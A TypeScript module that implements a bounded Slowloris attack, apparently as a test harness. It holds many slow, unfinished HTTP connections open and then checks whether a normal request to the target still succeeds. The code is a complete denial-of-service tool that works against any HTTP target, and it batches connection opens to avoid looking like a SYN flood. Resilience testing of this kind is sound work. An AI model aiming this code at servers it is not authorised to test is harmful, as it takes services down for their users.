// Slowloris, bounded: open N connections that send a request's headers a few bytes at
// a time and never finish them, then check whether a normal request still gets through
// and how long it takes. Everything stops by itself after holdMs + probe timeout.
import { connect, type Socket } from 'node:net';
import { request } from 'node:http';

export interface SlowlorisOptions {
  /** Base URL of the target, e.g. http://127.0.0.1:8084 or http://proxy:8080/blocking */
  target: string;
  connections: number;
  /** How long the slow connections are held open (the attack's length). */
  holdMs: number;
  /** A header line fragment is sent on every slow connection this often. */
  trickleEveryMs: number;
  /** The normal request is sent this long after the slow connections are open. */
  probeAfterMs: number;
  probeTimeoutMs: number;
}

export interface ProbeResult {
  status: number | null;
  ms: number;
  error: string | null;
}

export interface SlowlorisResult {
  target: string;
  connections: number;
  opened: number;
  /** Slow connections the server (or proxy) closed before the attack ended, and when. */
  closedByServer: number;
  medianCloseMs: number | null;
  /** What the server answered on slow connections it closed (e.g. a 408), if anything. */
  answeredStatuses: Record<string, number>;
  probe: ProbeResult;
  verdict: 'survived' | 'degraded' | 'down';
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function probe(url: string, timeoutMs: number): Promise<ProbeResult> {
  const started = performance.now();
  return new Promise((resolve) => {
    const req = request(url, { agent: false }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode ?? null, ms: performance.now() - started, error: null }));
    });
    req.setTimeout(timeoutMs, () => req.destroy(new Error(`no answer within ${timeoutMs} ms`)));
    req.on('error', (err) => resolve({ status: null, ms: performance.now() - started, error: err.message }));
    req.end();
  });
}

function openSlow(url: URL, path: string, onClose: (ms: number, firstBytes: string) => void): Promise<Socket | null> {
  return new Promise((resolve) => {
    const opened = performance.now();
    let firstBytes = '';
    const socket = connect(Number(url.port || 80), url.hostname, () => {
      // A request line and one header, but never the blank line that ends the headers.
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${url.host}\r\n`);
      resolve(socket);
    });
    socket.on('data', (chunk: Buffer) => {
      if (firstBytes.length < 64) firstBytes += chunk.toString('latin1');
    });
    socket.on('close', () => onClose(performance.now() - opened, firstBytes));
    socket.on('error', () => resolve(null));
    socket.setTimeout(10_000, () => socket.destroy());
  });
}

export async function slowloris(options: SlowlorisOptions): Promise<SlowlorisResult> {
  const base = new URL(options.target);
  const prefix = base.pathname.replace(/\/$/, '');
  const closes: number[] = [];
  const statuses: Record<string, number> = {};
  let attackOver = false;
  const sockets: Socket[] = [];
  // Open in small batches so the attack itself does not look like a SYN flood.
  for (let i = 0; i < options.connections; i += 50) {
    const batch = await Promise.all(
      Array.from({ length: Math.min(50, options.connections - i) }, () =>
        openSlow(base, `${prefix}/db?id=1`, (ms, firstBytes) => {
          if (attackOver) return;
          closes.push(ms);
          const status = /^HTTP\/1\.[01] (\d{3})/.exec(firstBytes)?.[1] ?? 'none';
          statuses[status] = (statuses[status] ?? 0) + 1;
        }),
      ),
    );
    for (const s of batch) if (s) sockets.push(s);
  }
  for (const s of sockets) s.setTimeout(0);
  const trickle = setInterval(() => {
    for (const s of sockets) if (!s.destroyed) s.write('X-a: b\r\n');
  }, options.trickleEveryMs);
  const attackStarted = performance.now();
  try {
    await sleep(options.probeAfterMs);
    const result = await probe(`${options.target.replace(/\/$/, '')}/db?id=1`, options.probeTimeoutMs);
    const left = options.holdMs - (performance.now() - attackStarted);
    if (left > 0) await sleep(left);
    const sorted = [...closes].sort((a, b) => a - b);
    return {
      target: options.target,
      connections: options.connections,
      opened: sockets.length,
      closedByServer: closes.length,
      medianCloseMs: sorted.length ? Math.round(sorted[Math.floor(sorted.length / 2)]!) : null,
      answeredStatuses: statuses,
      probe: { ...result, ms: Math.round(result.ms) },
      verdict: result.status === 200 ? (result.ms < 1_000 ? 'survived' : 'degraded') : 'down',
    };
  } finally {
    attackOver = true;
    clearInterval(trickle);
    for (const s of sockets) s.destroy();
  }
}
